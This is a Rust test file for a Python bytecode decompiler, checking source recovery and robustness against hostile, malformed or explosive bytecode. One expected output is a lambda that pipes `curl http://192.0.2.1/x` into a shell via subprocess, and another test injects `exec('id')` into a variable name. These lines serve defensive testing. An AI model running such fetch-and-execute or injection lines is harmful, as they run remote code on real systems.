//! Source from bytecode: what is shown, what is not, and what hostile bytecode costs.

use super::super::opcodes::Opcodes;
use super::super::{CodeObject, Value, Version, decompile, read_marshal};
use super::fixtures::{BRANCH, MODULE, NORMALIZE, POPEN};
use super::{decode, read, recipe};
use std::sync::Arc;
use wb_core::{Budget, Bytes};

/// A module with one function that has most of what a function can have, compiled by 3.11.
const FUNCTION: &str = "YwAAAAAAAAAAAAAAAAIAAAAAAAAA8xIAAACXAGQAZAGcAWQChAJaAGQDUwApBOkBAAAAKQHaAWNjAQAAAAAAAAABAAAABwAAAC8AAADzHAIAAIcBhwZLAAEAlwB8AEQAXeqKBgkAfAI1AH0EiQZyAnwEcwKJAXMnCQBkAWQBZAGmAgAAqwIAAAAAAAAAAAEAfAN4AWoAAAAAAAAAAABkAoQAfAREAKYAAACrAAAAAAAAAAAAeg0AAGMCXwAAAAAAAAAAAIwzZAOJBmMCeAJrAAAAAAByBmQEawAAAAAAcituAgEAbigJAGQBZAFkAaYCAACrAgAAAAAAAAAAAQB8A3gBagAAAAAAAAAAAGQChAB8BEQApgAAAKsAAAAAAAAAAAB6DQAAYwJfAAAAAAAAAAAAAQBujGQBZAFkAaYCAACrAgAAAAAAAAAAAQBuCyMAMQBzBHcCeANZAHcBAQBZAAEAAQBuLiMAdAIAAAAAAAAAAAAAdAQAAAAAAAAAAAAAZgIkAHIafQV0BwAAAAAAAAAAAACJBmQFfASbAJ0CmwamAQAAqwEAAAAAAAAAAHwFggJkAX0FfgV3AXcAeANZAHcBfAN4AWoAAAAAAAAAAABkAoQAfAREAKYAAACrAAAAAAAAAAAAeg0AAGMCXwAAAAAAAAAAAIzMIwB8A3gBagAAAAAAAAAAAGQChAB8BEQApgAAAKsAAAAAAAAAAAB6DQAAYwJfAAAAAAAAAAAAdwB4A1kAdwGJBnIKiAGIBmYCZAaECFYAlwGKBokGsAppAHwDpQFkB3wAZAhkCYUCGQAAAAAAAAAAAGkBpQFTACkKegREb2MuTmMBAAAAAAAAAAAAAAADAAAAEwAAAPMWAAAAlwBnAHwAXQZ9AXwBrwR8AZECjAdTAKkAcgUAAAApAtoCLjDaAWlzAgAAACAg+gRtLnB5+go8bGlzdGNvbXA+ehVmLjxsb2NhbHM+LjxsaXN0Y29tcD4OAAAAcx0AAACAANATJtATJtATJpghoEHQEyaQQdATJtATJtATJvMAAAAA6QAAAADpCQAAAPoBPmMAAAAAAAAAAAAAAAACAAAAEwAAAPMMAAAAlQKXAIkBiQBmAlMAKQFOcgUAAAApAnICAAAA2gF4cwIAAACAgHIIAAAA+gg8bGFtYmRhPnoTZi48bG9jYWxzPi48bGFtYmRhPhEAAABzCwAAAPiAAJhxoCGYZoAAcgoAAADaAWtyAQAAAOkCAAAAKQRyEQAAANoBRdoBRtoBRykH2gFhcgIAAADaAWLaAWTaAXnaAWVyDwAAAHMHAAAAIGAgICAgQHIIAAAA2gFmchsAAAACAAAAc/sBAAD4+OgA6ACAAOANDvAADQUl8AANBSWIAfACCQkn2BES8AAEDRqQYdgTFPAAAxEamBHwAAMRGqAh8AADERrYFBzwBQQNGvAABA0a8AAEDRrxAAQNGvQABA0a8AAEDRrwEAANDohDjEPQEybQEyaYcdATJtETJtQTJtEMJohDjEOIQ/ALABYXmBGQWZBZklmQWZhRklmQWZBZkFmQWdgUGfAJBA0a8AAEDRrwAAQNGvEABA0a9AAEDRrwAAQNGvAQAA0OiEOMQ9ATJtATJphx0BMm0RMm1BMm0QwmiEOMQ4hDiEPwEQQNGvAABA0a8AAEDRrxAAQNGvQABA0a8AAEDRrwAAQNGvAABA0a8AAEDRrwAAQNGvAABA0a+Pj48AAEDRrwAAQNGvAABA0a8AAEDRr4+PUKABESlTGIdvAAAQkq8AABCSrwAAEJKt0SE5BxkE2YUZBNkE2QTdESItQSIqgB0Awp+Pj4+PADAQkq+Pj48AYADQ6IQ4xD0BMm0BMmmHHQEybREybUEybRDCaIQ4xDiEP4iEGIQ4xD0BMm0BMmmHHQEybREybUEybRDCaIQ4xDiEOIQ4hDiEPgDg/wAAEJJdgWJJBukG6QbpBu0BAk0BAkiEHwAwAPEPAAAQkl4AsdiGHQCx2QE5BhmAGYIZgDlGbQCx3QCx3QBB1zXAAAAIoCQgoCjAhBPgWUC0IKAroRQT4FwQsLQgoCwTIMQgoCwT4EQgIJwgIDQgoCwgUBQgIJwgYDQgoCwgkBQxMCwgoRQjUFwhsVQjAFwjAFQjUFwjUDQxMCwxMcQy8FTikBchsAAAByBQAAAHIKAAAAcggAAAD6CDxtb2R1bGU+chwAAAABAAAAcysAAADwAwEBAeAPEPAAEAEe8AAQAR7wABABHvAAEAEe8AAQAR7wABABHvAAEAEecgoAAAA=";

/// The function in [`FUNCTION`].
const SOURCE: &str = "def f(a, *b, c=1, **d):\n\
\x20   'Doc.'\n\
\x20   for x in a:\n\
\x20       try:\n\
\x20           with b as y:\n\
\x20               if x and y or not c:\n\
\x20                   continue\n\
\x20               if 0 < x < 9:\n\
\x20                   break\n\
\x20       except (E, F) as e:\n\
\x20           raise G(f'{x!r:>{y}}') from e\n\
\x20       finally:\n\
\x20           d.k += [i for i in y if i]\n\
\x20   else:\n\
\x20       while x:\n\
\x20           x = yield lambda: (x, c)\n\
\x20   return {**d, 'k': a[1:2]}\n\
";

fn shown(code: &CodeObject) -> String {
    decompile(code, &mut Budget::default()).text
}

/// xorshift: the same numbers on every machine.
fn below(state: &mut u64, bound: usize) -> usize {
    *state ^= *state << 13;
    *state ^= *state >> 7;
    *state ^= *state << 17;
    usize::try_from(*state % u64::try_from(bound).expect("small")).expect("below a usize")
}

#[test]
fn bytecode_is_shown_as_the_source_it_was_compiled_from() {
    assert_eq!(shown(&read(FUNCTION)), SOURCE);
    let lambda = "lambda x: (__import__('subprocess').Popen('curl http://192.0.2.1/x | sh', shell=True), x)[1]\n";
    for (version, code) in POPEN {
        assert_eq!(shown(&read(code)), lambda, "{version}");
    }
    for (version, code) in NORMALIZE.into_iter().chain(BRANCH).chain(MODULE) {
        let decompiled = decompile(&read(code), &mut Budget::default());
        let supported = (6..=14).contains(&version.minor) && version.major == 3;
        assert!(
            decompiled.not_recovered.is_empty() || !supported,
            "{version}: {}",
            decompiled.text
        );
    }
}

#[test]
fn what_is_not_recovered_says_so_and_shows_instructions() {
    // A value is left on the stack: no source compiles to that.
    let lines = "LOAD_FAST 0\nLOAD_FAST 0\nSTORE_FAST 1\nPOP_TOP\nLOAD_CONST 0\nRETURN_VALUE";
    let code = recipe(Version::three(8), lines, &[], &[]);
    let decompiled = decompile(&code, &mut Budget::default());
    assert_eq!(decompiled.not_recovered.len(), 1);
    assert!(
        decompiled.text.starts_with("# The structure was not recovered"),
        "{}",
        decompiled.text
    );
    assert!(decompiled.text.contains("STORE_FAST"), "{}", decompiled.text);
    assert!(decompiled.text.lines().all(|line| line.starts_with('#')), "{}", decompiled.text);
    // The same without that value is a program.
    let lines = "LOAD_FAST 0\nSTORE_FAST 1\nLOAD_CONST 0\nRETURN_VALUE";
    let mut code = recipe(Version::three(8), lines, &[], &[]);
    code.name = "f".into();
    assert_eq!(shown(&code), "def f(x):\n    y = x\n");
    // A name that would say something else when it is read as source.
    code.locals[1] = "y = exec('id'); z".into();
    assert_eq!(decompile(&code, &mut Budget::default()).not_recovered.len(), 1);
}

#[test]
fn names_that_are_not_bound_any_more_are_not_shown_as_locals() {
    let mut code = recipe(Version::three(8), "LOAD_FAST 1\nRETURN_VALUE", &[], &[]);
    code.name = "f".into();
    assert_eq!(decompile(&code, &mut Budget::default()).not_recovered.len(), 1);
}

#[test]
fn changed_bytes_never_panic() {
    let mut state = 0x9e37_79b9_7f4a_7c15;
    let bytes = decode(FUNCTION);
    for _ in 0..1_500 {
        let mut changed = bytes.clone();
        for _ in 0..=below(&mut state, 4) {
            let at = below(&mut state, changed.len());
            changed[at] = u8::try_from(below(&mut state, 256)).expect("a byte");
        }
        changed.truncate(bytes.len() - below(&mut state, 3));
        let hint = Some(Version::three(11));
        if let Ok(code) = read_marshal(Bytes::new(&changed), hint, &mut Budget::default()) {
            let _ = shown(&code);
        }
    }
}

#[test]
fn any_instructions_in_any_order_end() {
    let mut state = 0x2545_f491_4f6c_dd1d;
    for minor in 6..=14 {
        let version = Version::three(minor);
        let known: Vec<u8> =
            (0..=255).filter(|number| Opcodes::of(version).get(*number).is_some()).collect();
        for round in 0..60 {
            let mut code = recipe(version, "", &["a", "b"], &["n", "m"]);
            for _ in 0..=below(&mut state, 20 * (round + 1)) {
                let number = known[below(&mut state, known.len())];
                let argument = u8::try_from(below(&mut state, 12)).expect("a byte");
                code.code.extend([number, argument]);
                let caches = Opcodes::of(version).get(number).map_or(0, |opcode| opcode.caches);
                code.code.extend(std::iter::repeat_n(0, usize::from(caches) * 2));
            }
            code.exception_table = vec![0x80, 0x04, 0x08, 0x01, 0x82, 0x06, 0x04, 0x02];
            let _ = shown(&code);
        }
    }
}

#[test]
fn jumps_that_multiply_ways_and_deep_nesting_end() {
    let version = Version::three(8);
    // Each test goes on either to the next or far behind: the ways are as many as powers of two.
    let bomb: Vec<String> = (0..3_000_usize)
        .map(|index| format!("LOAD_FAST 0\nPOP_JUMP_IF_FALSE {}", (index * 7 % 60) * 4))
        .collect();
    let code =
        recipe(version, &format!("{}\nLOAD_CONST 0\nRETURN_VALUE", bomb.join("\n")), &[], &[]);
    assert_eq!(decompile(&code, &mut Budget::default()).not_recovered.len(), 1);
    let deep = format!("LOAD_FAST 0\n{}RETURN_VALUE", "UNARY_NOT\n".repeat(9_000));
    let code = recipe(version, &deep, &[], &[]);
    assert_eq!(decompile(&code, &mut Budget::default()).not_recovered.len(), 1);
    // Tests within tests, as deep as one byte of argument can jump.
    let mut nested = String::new();
    for index in 0..40 {
        nested.push_str(&format!(
            "LOAD_FAST 0\nPOP_JUMP_IF_FALSE {}\nLOAD_FAST 0\nPOP_TOP\n",
            248 - index % 2
        ));
    }
    nested.push_str("LOAD_CONST 0\nRETURN_VALUE");
    let _ = shown(&recipe(version, &nested, &[], &[]));
}

#[test]
fn patterns_that_nest_or_take_apart_without_end_end() {
    let version = Version::three(11);
    // Each copy could be the first of alternatives inside of the one before it.
    let copies = format!("LOAD_FAST 0\n{}LOAD_CONST 0\nRETURN_VALUE", "COPY 1\n".repeat(9_000));
    let code = recipe(version, &copies, &[], &[]);
    assert_eq!(decompile(&code, &mut Budget::default()).not_recovered.len(), 1);
    // Sixteen million items behind a star.
    let star = "LOAD_FAST 0\nMATCH_SEQUENCE\nPOP_JUMP_FORWARD_IF_FALSE 4\nEXTENDED_ARG 255\n\
                EXTENDED_ARG 255\nEXTENDED_ARG 255\nUNPACK_EX 0\nLOAD_CONST 0\nRETURN_VALUE";
    let code = recipe(version, star, &[], &[]);
    assert_eq!(decompile(&code, &mut Budget::default()).not_recovered.len(), 1);
}

#[test]
fn code_that_many_share_is_not_shown_each_time() {
    let version = Version::three(8);
    let mut code = recipe(version, "LOAD_CONST 0\nRETURN_VALUE", &[], &[]);
    let lines = "LOAD_CONST 2\nLOAD_CONST 1\nMAKE_FUNCTION 0\nLOAD_CONST 2\nLOAD_CONST 1\n\
                 MAKE_FUNCTION 0\nBUILD_TUPLE 2\nRETURN_VALUE";
    for _ in 0..40 {
        let mut outer = recipe(version, lines, &["<lambda>"], &[]);
        outer.consts.insert(1, Value::Code(Arc::new(code)));
        code = outer;
    }
    let decompiled = decompile(&code, &mut Budget::default());
    assert!(decompiled.text.len() < 1 << 20, "{} bytes", decompiled.text.len());
    // A text that is long and used often is not repeated without end.
    let mut code = recipe(version, &"LOAD_CONST 1\nPOP_TOP\n".repeat(4_000), &["x"], &[]);
    code.consts[1] = Value::Text("long ".repeat(20_000).into());
    code.code.extend([100, 0, 83, 0]);
    assert!(shown(&code).len() < 32 << 20);
}
